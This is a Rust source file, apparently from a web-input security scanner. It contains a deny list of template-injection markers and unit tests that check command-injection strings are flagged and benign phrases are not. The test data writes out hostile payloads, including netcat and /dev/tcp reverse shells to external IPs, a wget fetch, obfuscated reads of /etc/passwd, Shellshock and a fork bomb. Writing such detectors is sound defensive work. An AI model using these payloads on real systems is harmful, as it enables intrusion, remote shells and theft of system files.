            "__mro__",
            "__subclasses__",
            "__globals__",
            "__builtins__",
            "__import__",
            "{{config",
            "{{self",
            "{{request",
            "lipsum.",
            "cycler.",
            "joiner.",
        ],
    ) {
        return Some(Hit::deny(
            "rce.runtime",
            p,
            "server-side script runtime access",
        ));
    }
    if let Some(h) = syntax::scan(lower) {
        return Some(h);
    }
    if let Some(p) = lower.ffind("eval(") {
        return Some(Hit::deny("rce.runtime", p, "eval call"));
    }
    let _ = ctx;
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> Option<Hit> {
        crate::scan_query_value(scan, s)
    }

    #[test]
    fn attacks() {
        for a in [
            ";cat /etc/passwd",
            "| whoami",
            "$(id)",
            "`uname -a`",
            "a;wget http://x/y",
            "x&&nc -e /bin/sh 1.2.3.4 4444",
            "cat${IFS}/etc/passwd",
            "/etc/[p]asswd",
            "() { :;}; /bin/bash -c id",
            "powershell -enc AAAA",
            "nohup ifconfig",
            "time sh -c whoami",
            "{,ifconfig}",
            "c{a,oun}t /etc/passwd",
            "f(){ f|f& };f",
            "alias a=b",
            "{{7*7}}",
            "while(true);",
            "cat /[?]tc/pa[?]swd",
            "cat /[e//]tc/[p//]asswd",
            "cat /[e/////////]tc/[p//]asswd",
            "/[e///]tc",
            "/bi[n]/bash",
            "cat /e[t]c/pas*d",
            "() {",
            "$SHELL -c \"echo hi\"",
            "/usr/bin/perl -e 'print readline' some-file.txt",
            "python3 -c \"import os\"",
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            "c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11",
            "a=nc&&$a -nlvp 555",
            ";$a cat test.txt",
            ";iwmi -class Win32_process -name Create",
            "time sh -c whoami\n",
            "ping`` 127.0.0.1",
            "pi$()ng 127.0.0.1",
            "echo \"foo;whxam\"i | tr x o | sh #\"",
            "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
            "{/?s?/?i?/c?t,}",
            ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
            "visudo\n",
            "ansible all -m ping\n",
            "ansible-config dump",
            "env --version",
            "find /etc -name passwd -exec cat {} +\n",
            "ll /var/www/",
            "cat /path/file.gz\n",
            "cscli alerts list",
            "\"cscli alerts list\"",
            "garb=adduse[r];$garb pizza\n",
            "{n$u\\c$u,-nlvp,777}\n",
            "kill '-'9\n",
            "python3.10 cmd",
            ";ex dddd +silent\\\\ \\!whoami +wq\n",
            "aa-disable php-fpm",
            "{ls,-la}",
        ] {
            assert!(hit(a).is_some(), "{a}");
        }
    }

    #[test]
    fn parameter_names() {
        let name = |s: &str| {
            scan(
                s,
                &s.to_ascii_lowercase(),
                Ctx {
                    kind: &InputKind::BodyFieldName,
                    name: "",
                },
            )
        };
        for b in ["uname", "id", "whoami", "host", "cmd", "python3"] {
            assert!(name(b).is_none(), "{b}");
        }
        for a in [";uname -a", "() {", "cat /etc/passwd", "__proto__"] {
            assert!(name(a).is_some(), "{a}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "time warner",
            "ping pong tables",
            "hello; time he came",
            "environment",
            "a hero; more than",
            "The zip on my coat is stuck",
            "user@example.com",
            "Times & Schedule",
            "Axel",
            "base64",
            "myfunction(){ echo hello }",
            "{\"a\",\"b\"}",
            "if you want",
            "items[0] and [a-z]+ patterns",
            "route /api/*/items",
            "/*",
            "/users/[id]/posts?page=2",
            "the price is $price; cat lovers welcome",
            "name=john doe; city=$city",
            "perl is a language; see perl -v",
            "/usr/share/doc/readme",
            "() => {}",
            "ping pong 2.0",
            "tea | coffee | shake",
            "it''s a \"\"quoted\"\" word",
            "top -rated products",
            "free - shipping over 50",
            "mount everest is high",
            "dig deeper into the data",
            "time - the final frontier",
            "python3 is installed",
            "sha256sum of the file is abc",
            "touch base tomorrow",
            "mount everest",
            "see /docs/setup for more",
            "find us at //example.com",
            "wall street",
            "Hello!whoami",
            "wow! curl up with a book",
            "it's 'a'ok",
            "{a,b,c}",
            "{\"name\":\"x\"}",
            "{\"id\":\"evt_test\",\"type\":\"payment_intent.succeeded\"}",
            "{\"a\":\"b\",\"id\":\"c\",\"cat\":\"d\"}",
            "{\"cmd\":\"ping\",\"host\":\"example.com\"}",
            "(r'(\\w+)(\\s*)(=)', bygroups(Name.Constant, Whitespace, Operator)),",
            "(r'(eval|mimic|print|println)(?![\\w!:?])', Keyword),",
            "(r'm\\.[a-z_]\\w*', Name.Variable),",
            "$PS1.",
            "CC0 1.0 Universal",
            "vi. database rights (such as those arising)",
            "| ed25519 public keys (base64); when set |",
            "/usr/share/doc/python",
            "(r'//[^\\n]*', Comment.Single),",
            "(s(r'($id)(\\s*)(:=)'),",
            "bash completion: add diff options",
            "gcc doesn't",
            "Make --with-origin also work without origin :)",
            "GCC Farm Project",
            "/bin/sh.  Use a more portable idiom.",
            "/bin/echo to just echo.",
            "gawk now does these itself.",
            "LOCATE02 format.  Organised the material",
            "bash completion: add --orphan to 'git checkout'",
        ] {
            assert!(hit(b).is_none(), "{b}: {:?}", hit(b));
        }
    }
}
